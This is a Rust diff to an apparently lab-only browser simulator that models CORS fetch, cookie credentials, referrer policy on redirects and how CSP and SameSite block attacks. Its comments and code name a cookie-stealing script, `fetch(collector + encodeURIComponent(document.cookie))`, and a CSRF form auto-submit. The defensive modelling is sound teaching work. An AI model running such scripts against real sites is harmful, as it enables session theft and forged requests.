@@ -39,11 +39,17 @@ pub enum BrowserError {
     NoSuchLink(String, String),
 }
 
-/// Top-level navigation (link, address bar, form) or subresource (img, fetch, script).
+/// What kind of request it is, which decides its `Sec-Fetch-Mode` and the cookie rules.
 #[derive(Debug, Clone, Copy, PartialEq, Eq)]
 pub enum RequestKind {
+    /// A top-level navigation: a link, the address bar, a form (`Sec-Fetch-Mode: navigate`).
     Navigation,
+    /// A `no-cors` subresource such as an `<img>` (`Sec-Fetch-Mode: no-cors`).
     Subresource,
+    /// A script's `fetch(url)` with the defaults: mode `cors` (`Sec-Fetch-Mode: cors`, and an
+    /// `Origin` header when it goes to another origin) and credentials `same-origin` (no cookies
+    /// go to, or are taken from, another origin).
+    Fetch,
 }
 
 /// One request an actor makes.
@@ -85,7 +91,20 @@ impl RequestSpec {
         }
     }
 
-    /// A subresource GET (an `<img>`, a `fetch()`) that does not follow redirects.
+    /// A script's `fetch(url)` from the page `initiator`, with fetch's defaults (see
+    /// [`RequestKind::Fetch`]); it follows redirects, as `redirect: "follow"` does.
+    pub fn script_fetch(url: Url, initiator: Url) -> Self {
+        Self {
+            method: "GET".to_string(),
+            url,
+            form: None,
+            kind: RequestKind::Fetch,
+            initiator: Some(initiator),
+            follow_redirects: true,
+        }
+    }
+
+    /// A no-cors subresource GET (an `<img>`) that does not follow redirects.
     pub fn subresource(url: Url, initiator: Option<Url>) -> Self {
         Self {
             method: "GET".to_string(),
@@ -354,6 +373,7 @@ impl Browser {
             method: spec.method.clone(),
             url: spec.url.clone(),
             form: spec.form.clone(),
+            referrer_policy: None,
         };
         for _ in 0..=MAX_REDIRECTS {
             let exchange = self.send_one(&hop, &spec).await?;
@@ -386,13 +406,7 @@ impl Browser {
     /// Remembers the policy a displayed document names (or forgets an old one: no header means
     /// the browser default).
     fn remember_referrer_policy(&mut self, exchange: &Exchange) {
-        let policy = exchange
-            .response_headers
-            .iter()
-            .filter(|(name, _)| name.eq_ignore_ascii_case("referrer-policy"))
-            .filter_map(|(_, value)| ReferrerPolicy::parse(value))
-            .next_back();
-        match policy {
+        match referrer_policy_of(&exchange.response_headers) {
             Some(policy) => self.referrer_policies.insert(exchange.url.clone(), policy),
             None => self.referrer_policies.remove(&exchange.url),
         };
@@ -419,9 +433,19 @@ impl Browser {
             top_level,
             initiator: spec.initiator.as_ref(),
         };
-        let (cookie_header, cookie_decisions) = self.jar.cookies_for(&ctx, now);
+        // fetch()'s default credentials mode, "same-origin": another origin gets no cookies.
+        let with_credentials = spec.kind != RequestKind::Fetch
+            || spec
+                .initiator
+                .as_ref()
+                .is_none_or(|page| page.origin() == url.origin());
+        let (cookie_header, cookie_decisions) = if with_credentials {
+            self.jar.cookies_for(&ctx, now)
+        } else {
+            (None, Vec::new())
+        };
         let body = hop.form.as_deref().map(urlencode);
-        let headers = self.request_headers(&url, &hop.method, spec, cookie_header, body.is_some());
+        let headers = self.request_headers(&url, hop, spec, cookie_header, body.is_some());
 
         let method = reqwest::Method::from_bytes(hop.method.as_bytes()).map_err(|_| {
             BrowserError::BadUrl(format!("{url} with the invalid method {:?}", hop.method))
@@ -460,8 +484,10 @@ impl Browser {
             .await
             .map_err(|error| unreachable(&url, &error))?;
 
+        // Nor are its cookies stored (a credentials-less response's Set-Cookie is ignored).
         let set_cookie_outcomes = response_headers
             .iter()
+            .filter(|_| with_credentials)
             .filter(|(name, _)| name.eq_ignore_ascii_case("set-cookie"))
             .map(|(_, value)| self.jar.set_cookie(&url, value, CookieSource::Http, now))
             .collect();
@@ -491,17 +517,20 @@ impl Browser {
     /// The headers a Chromium-like browser sends, in the order it sends them.
     ///
     /// `Host` names the lab host (the connection goes to the routed address). `Origin` goes with
-    /// every POST (Fetch: "null" when there is no initiating page). `Referer` is as much of the
-    /// initiating page's URL as that page's `Referrer-Policy` allows (see [`crate::referrer`]). `Sec-Fetch-Site` / `-Mode` / `-Dest` tell the server where the request came from,
-    /// which is what a server-side CSRF defence can check.
+    /// every POST (Fetch: "null" when there is no initiating page) and with a script's `fetch()`
+    /// to another origin (mode `cors`). `Referer` is as much of the initiating page's URL as the
+    /// request's referrer policy allows (see [`crate::referrer`]): the page's `Referrer-Policy`,
+    /// or the one a redirect on the way named. `Sec-Fetch-Site` / `-Mode` / `-Dest` tell the
+    /// server where the request came from, which is what a server-side CSRF defence can check.
     fn request_headers(
         &self,
         url: &Url,
-        method: &str,
+        hop: &Hop,
         spec: &RequestSpec,
         cookie_header: Option<String>,
         has_form_body: bool,
     ) -> Vec<(String, String)> {
+        let method = hop.method.as_str();
         let navigation = spec.kind == RequestKind::Navigation;
         let mut headers = vec![
             ("Host".to_string(), host_header(url)),
@@ -526,13 +555,22 @@ impl Browser {
         if let Some(cookies) = cookie_header {
             headers.push(("Cookie".to_string(), cookies));
         }
+        // Fetch: the request's referrer policy starts as the page's and a redirect may replace it.
         let policy_of = |page: &Url| {
-            self.referrer_policies
-                .get(page)
-                .copied()
+            hop.referrer_policy
+                .or_else(|| self.referrer_policies.get(page).copied())
                 .unwrap_or(ReferrerPolicy::DEFAULT)
         };
-        if method.eq_ignore_ascii_case("POST") {
+        // The page of a script's fetch() to another origin: a CORS request.
+        let cors_from = spec
+            .initiator
+            .as_ref()
+            .filter(|page| spec.kind == RequestKind::Fetch && page.origin() != url.origin());
+        if let Some(page) = cors_from {
+            // Fetch, "append a request Origin header": a CORS request names its origin as it is;
+            // the referrer policy only hides the origin of non-CORS requests.
+            headers.push(("Origin".to_string(), page.origin().ascii_serialization()));
+        } else if method.eq_ignore_ascii_case("POST") {
             let origin = spec.initiator.as_ref().map_or("null".to_string(), |page| {
                 policy_of(page).origin_header(page, url)
             });
@@ -549,10 +587,12 @@ impl Browser {
             "Sec-Fetch-Site".to_string(),
             sec_fetch_site(spec.initiator.as_ref(), url).to_string(),
         ));
-        headers.push((
-            "Sec-Fetch-Mode".to_string(),
-            if navigation { "navigate" } else { "no-cors" }.to_string(),
-        ));
+        let mode = match spec.kind {
+            RequestKind::Navigation => "navigate",
+            RequestKind::Subresource => "no-cors",
+            RequestKind::Fetch => "cors",
+        };
+        headers.push(("Sec-Fetch-Mode".to_string(), mode.to_string()));
         headers.push((
             "Sec-Fetch-Dest".to_string(),
             if navigation { "document" } else { "empty" }.to_string(),
@@ -575,18 +615,18 @@ impl Browser {
     async fn run_scripts(&mut self, page: &Page) -> Vec<ScriptEffect> {
         let policy = content_security_policy(&page.headers);
         let mut effects = Vec::new();
-        for script in crate::html::inline_scripts(&page.body) {
+        for script in crate::html::inline_scripts_in_place(&page.body) {
             let effect = if !csp_allows_inline_script(policy.as_deref()) {
                 ScriptEffect::BlockedByCsp {
                     policy: policy.clone().unwrap_or_default(),
                 }
-            } else if let Some(collector) = parse_exfiltration(&script) {
+            } else if let Some(collector) = parse_exfiltration(&script.source) {
                 self.exfiltrate(&page.url, &collector).await
-            } else if is_auto_submit(&script) {
-                self.auto_submit(page).await
+            } else if is_auto_submit(&script.source) {
+                self.auto_submit(page, script.forms_before).await
             } else {
                 ScriptEffect::Ignored {
-                    excerpt: excerpt(&script),
+                    excerpt: excerpt(&script.source),
                 }
             };
             effects.push(effect);
@@ -598,17 +638,19 @@ impl Browser {
     /// page's first form with its fields as they stand (hidden ones included; `submit()` adds no
     /// button and fires no submit event). It is a top-level navigation started by the page, so
     /// the jar applies SameSite to it as to any cross-site POST, and `Origin` / `Sec-Fetch-Site`
-    /// name the page. The model does not run the scripts of the page the navigation lands on, so
-    /// a page that submits to itself cannot loop.
-    async fn auto_submit(&mut self, page: &Page) -> ScriptEffect {
-        let Some(form) = page.forms().into_iter().next() else {
+    /// name the page. The script runs where the parser meets it: `forms_before` forms exist then.
+    /// The model does not run the scripts of the page the navigation lands on, so a page that
+    /// submits to itself cannot loop.
+    async fn auto_submit(&mut self, page: &Page, forms_before: usize) -> ScriptEffect {
+        let first = page.forms().into_iter().next().filter(|_| forms_before > 0);
+        let Some(form) = first else {
             // JavaScript: `document.forms[0]` is undefined, a TypeError.
             self.script_errors.push(format!(
-                "document.forms[0].submit() on {}: the page has no form",
+                "document.forms[0].submit() on {}: no form before the script",
                 page.url
             ));
             return ScriptEffect::Ignored {
-                excerpt: "document.forms[0].submit() on a page with no form".to_string(),
+                excerpt: "document.forms[0].submit() with no form before it".to_string(),
             };
         };
         let spec = if form.method == "POST" {
@@ -636,7 +678,9 @@ impl Browser {
     }
 
     /// The exfiltration program: `fetch(collector + encodeURIComponent(document.cookie))`, a
-    /// subresource GET started by the page. A failed request is recorded in `script_errors`.
+    /// script fetch started by the page (mode `cors`: the request goes out and the collector
+    /// logs it, whatever CORS later lets the script read). A failed request is recorded in
+    /// `script_errors`.
     async fn exfiltrate(&mut self, page_url: &Url, collector: &str) -> ScriptEffect {
         let document_cookie = self.jar.document_cookie(page_url, self.now());
         let target = format!("{collector}{}", encode_uri_component(&document_cookie));
@@ -650,7 +694,7 @@ impl Browser {
                 };
             }
         };
-        let spec = RequestSpec::subresource(request.clone(), Some(page_url.clone()));
+        let spec = RequestSpec::script_fetch(request.clone(), page_url.clone());
         if let Err(error) = self.fetch(spec).await {
             self.script_errors
                 .push(format!("fetch from a script on {page_url}: {error}"));
@@ -668,12 +712,25 @@ struct Hop {
     method: String,
     url: Url,
     form: Option<Vec<(String, String)>>,
+    /// Set when a redirect on the way named a `Referrer-Policy` (Fetch, "set request's referrer
+    /// policy on redirect"); until then the initiating page's policy applies.
+    referrer_policy: Option<ReferrerPolicy>,
+}
+
+/// The policy a response's `Referrer-Policy` headers name: the last token the browser knows.
+fn referrer_policy_of(headers: &[(String, String)]) -> Option<ReferrerPolicy> {
+    headers
+        .iter()
+        .filter(|(name, _)| name.eq_ignore_ascii_case("referrer-policy"))
+        .filter_map(|(_, value)| ReferrerPolicy::parse(value))
+        .next_back()
 }
 
 /// Fetch "HTTP-redirect fetch": the next hop for a redirect response, if it is one with a usable
 /// `Location` (resolved against the current URL). 301/302 turn a POST into a body-less GET and 303
 /// turns anything but GET/HEAD into one (what browsers do, so a form POST lands on a page);
-/// 307/308 repeat the same method and body.
+/// 307/308 repeat the same method and body. A `Referrer-Policy` on the redirect response becomes
+/// the request's policy for the hops that follow.
 fn redirect_hop(current: &Hop, exchange: &Exchange) -> Option<Hop> {
     if !matches!(exchange.status, 301 | 302 | 303 | 307 | 308) {
         return None;
@@ -688,17 +745,21 @@ fn redirect_hop(current: &Hop, exchange: &Exchange) -> Option<Hop> {
         }
         _ => false,
     };
+    let referrer_policy =
+        referrer_policy_of(&exchange.response_headers).or(current.referrer_policy);
     Some(if becomes_get {
         Hop {
             method: "GET".to_string(),
             url,
             form: None,
+            referrer_policy,
         }
     } else {
         Hop {
             method: current.method.clone(),
             url,
             form: current.form.clone(),
+            referrer_policy,
         }
     })
 }
@@ -828,6 +889,7 @@ mod tests {
             method: "POST".into(),
             url: url("http://app.lab.test:1/login"),
             form: Some(vec![("a".into(), "1".into())]),
+            referrer_policy: None,
         }
     }
 
